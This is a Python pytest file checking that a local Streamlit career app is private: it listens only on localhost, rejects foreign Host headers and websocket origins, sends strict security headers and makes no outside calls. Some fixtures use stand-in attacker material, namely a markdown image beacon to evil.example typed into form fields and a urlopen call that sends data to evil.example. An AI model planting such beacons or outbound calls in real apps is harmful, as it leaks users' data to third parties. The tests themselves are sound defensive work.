"""Private by default: who can reach the app, and whom the app and its pages reach: nobody."""

import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.client import HTTPConnection, HTTPMessage
from typing import NamedTuple

import pytest
from playwright.sync_api import Request, sync_playwright

from tests.browser.conftest import NO_BROWSER
from tests.browser.settling import listen, settle
from tests.browser.support import CHROMIUM_FLAGS, Server, find_chromium

EVIL = "evil.example"
TYPED = "![Team lead](http://evil.example/seen.png)"
PAGES = ("", "outcomes", "routes", "revise", "your_data")
ANSWERS = (
    "/",
    "/routes",
    "/_stcore/health",
    "/_stcore/host-config",
    "/vendor/vis-9.1.2/vis-network.min.js",
    "/pathway-map/map.js",
    "/media/there-is-no-such-file",
)


class Trap:
    """A proxy that takes note of everyone who calls, and answers nobody."""

    def __init__(self) -> None:
        self.calls: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            with caller:
                caller.settimeout(2)
                self.calls.append(caller.recv(200))

    def close(self) -> None:
        # Closing alone would leave the thread waiting.
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@contextmanager
def proxied_to(trap: Trap) -> Iterator[None]:
    """Let every program started within ask the trap for what is not on this machine."""
    with pytest.MonkeyPatch.context() as patch:
        for name in ("http_proxy", "https_proxy", "all_proxy"):
            patch.setenv(name, trap.url)
            patch.setenv(name.upper(), trap.url)
        patch.setenv("no_proxy", "127.0.0.1,localhost")
        patch.setenv("NO_PROXY", "127.0.0.1,localhost")
        yield


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    trap = Trap()
    yield trap
    trap.close()


@pytest.fixture(scope="module")
def server(trap: Trap, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The app as the README starts it, whatever it would tell others caught by the trap."""
    server = Server(tmp_path_factory.mktemp("data"))
    with proxied_to(trap):
        server.start()
    yield server
    server.stop()


class Answer(NamedTuple):
    status: int
    headers: HTTPMessage


def ask(server: Server, path: str, **headers: str) -> Answer:
    """Ask for a path with just these headers, and the right host unless one is given."""
    connection = HTTPConnection("127.0.0.1", server.port, timeout=5)
    connection.putrequest("GET", path, skip_host=True)
    for name, value in ({"Host": f"127.0.0.1:{server.port}"} | headers).items():
        connection.putheader(name.replace("_", "-"), value)
    connection.endheaders()
    answer = connection.getresponse()
    connection.close()
    return Answer(answer.status, answer.headers)


def open_socket(server: Server, **headers: str) -> int:
    """Try to open the socket that carries a session; 101 means that it is open."""
    handshake = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec_WebSocket_Version": "13",
        "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
        "Sec_WebSocket_Protocol": "streamlit",
    }
    return ask(server, "/_stcore/stream", **handshake, **headers).status


def assert_unreachable_from_elsewhere(server: Server) -> None:
    others = {str(info[4][0]) for info in socket.getaddrinfo(socket.gethostname(), None)}
    for address in {"127.0.0.2", "::1", *others} - {"127.0.0.1"}:
        try:
            socket.create_connection((address, server.port), timeout=2).close()
        except OSError:
            continue
        pytest.fail(f"the app can be reached at {address}")


def test_it_listens_on_this_machine_alone(server):
    socket.create_connection(("127.0.0.1", server.port), timeout=2).close()
    assert_unreachable_from_elsewhere(server)


@pytest.mark.parametrize("host", [EVIL, f"{EVIL}:8501", "localhost.evil.example", ""])
@pytest.mark.parametrize("path", ["/", "/_stcore/health", "/pathway-map/map.js"])
def test_another_name_for_this_machine_gets_no_page(server, host, path):
    assert ask(server, path, Host=host).status == 400
    assert ask(server, path, Host=f"localhost:{server.port}").status == 200


@pytest.mark.parametrize("origin", [None, f"http://{EVIL}", "http://localhost"])
def test_another_name_for_this_machine_gets_no_socket(server, origin):
    headers = {"Origin": origin} if origin else {}
    assert open_socket(server, Host=EVIL, **headers) == 400


def test_the_apps_own_page_gets_its_socket(server):
    assert open_socket(server, Origin=server.url) == 101


@pytest.mark.parametrize(
    "origin", [f"http://{EVIL}", f"https://127.0.0.1.{EVIL}", "http://localhost:9", "null"]
)
def test_a_page_of_somebody_else_gets_no_socket(server, origin):
    assert open_socket(server, Origin=origin) == 403


def test_only_what_is_no_browser_may_leave_its_origin_out(server):
    """Browsers always send one; a program on this machine could read the file itself."""
    assert open_socket(server) == 101
    assert open_socket(server, Host=EVIL) == 400


@pytest.mark.parametrize("path", ANSWERS)
def test_every_answer_tells_the_browser_to_talk_to_the_app_alone(server, path):
    headers = ask(server, path).headers
    policy = dict(
        part.strip().split(" ", 1) for part in headers["Content-Security-Policy"].split(";")
    )
    assert policy["default-src"] == policy["connect-src"] == policy["base-uri"] == "'self'"
    assert policy["form-action"] == policy["frame-ancestors"] == "'self'"
    assert policy["object-src"] == "'none'"
    allowed = {"'self'", "'none'", "'unsafe-inline'", "'unsafe-eval'", "data:", "blob:"}
    assert {source for sources in policy.values() for source in sources.split()} <= allowed
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"


def test_no_page_elsewhere_may_read_an_answer(server):
    answer = ask(server, "/_stcore/host-config", Origin=f"http://{EVIL}")
    assert answer.headers["Access-Control-Allow-Origin"] is None


class Visit(NamedTuple):
    """What a browser did while somebody looked at every page."""

    asked: list[str]
    fonts: list[str]
    pages: list[str]


@pytest.fixture(scope="module")
def visit(server: Server) -> Visit:
    path = find_chromium()
    if path is None:
        pytest.skip(NO_BROWSER)
    asked: list[str] = []
    fonts: list[str] = []
    pages: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)
        if request.resource_type == "font":
            fonts.append(request.url)

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=list(CHROMIUM_FLAGS))
        page = browser.new_page()
        listen(page)
        page.context.on("request", note)
        page.on("websocket", lambda opened: asked.append(opened.url))
        page.goto(server.url)
        settle(page)
        page.get_by_role("textbox", name="What do you hope is true").fill(TYPED)
        page.get_by_role("textbox", name="What is one way there").fill(f"A course, then {TYPED}")
        page.get_by_role("button", name="Draw my map").click()
        page.get_by_role("heading", name="way").first.wait_for()
        for name in PAGES:
            page.goto(f"{server.url}/{name}")
            settle(page)
            pages.append(page.locator("h1").first.inner_text())
        browser.close()
    return Visit(asked, fonts, pages)


@pytest.mark.browser
def test_no_page_asks_anyone_but_the_app(server, visit):
    assert len(set(visit.pages)) == len(PAGES)
    own = (f"{server.url}/", f"ws://127.0.0.1:{server.port}/", "data:", f"blob:{server.url}/")
    assert len(visit.asked) > 50
    assert [url for url in visit.asked if not url.startswith(own)] == []


@pytest.mark.browser
def test_fonts_and_icons_come_from_the_app(server, visit):
    assert visit.fonts
    assert all(url.startswith(f"{server.url}/static/") for url in visit.fonts)


def test_the_server_calls_nobody(server, trap, request):
    # After the pages, where there is a browser to have looked at them.
    if find_chromium():
        request.getfixturevalue("visit")
    assert ask(server, "/").status == 200
    assert trap.calls == []


def test_the_trap_would_have_caught_a_call():
    trap = Trap()
    with proxied_to(trap):
        calling = "import urllib.request as u; u.urlopen('http://evil.example/?usage=1', timeout=5)"
        subprocess.run([sys.executable, "-c", calling], capture_output=True, check=False)
    trap.close()
    assert [call.split()[:2] for call in trap.calls] == [[b"GET", b"http://evil.example/?usage=1"]]


def test_it_is_as_private_when_it_is_started_from_another_folder(server, tmp_path):
    """Streamlit finds the settings beside the script that it runs."""
    elsewhere = Server(tmp_path / "data", script=server.script)
    command = [sys.executable, "-m", "streamlit", "run", str(elsewhere.script)]
    command += [f"--server.port={elsewhere.port}", "--server.headless=true"]
    environment = os.environ | {"CAREERAPP_DATA_DIR": str(elsewhere.data)}
    with subprocess.Popen(
        command, cwd=tmp_path, env=environment, stdout=subprocess.DEVNULL
    ) as process:
        try:
            wait_for(elsewhere)
            assert_unreachable_from_elsewhere(elsewhere)
            assert open_socket(elsewhere, Origin=f"http://{EVIL}") == 403
        finally:
            process.terminate()


def wait_for(server: Server) -> None:
    for _ in range(300):
        try:
            return socket.create_connection(("127.0.0.1", server.port), timeout=2).close()
        except OSError:
            time.sleep(0.1)
    pytest.fail("the server did not start")
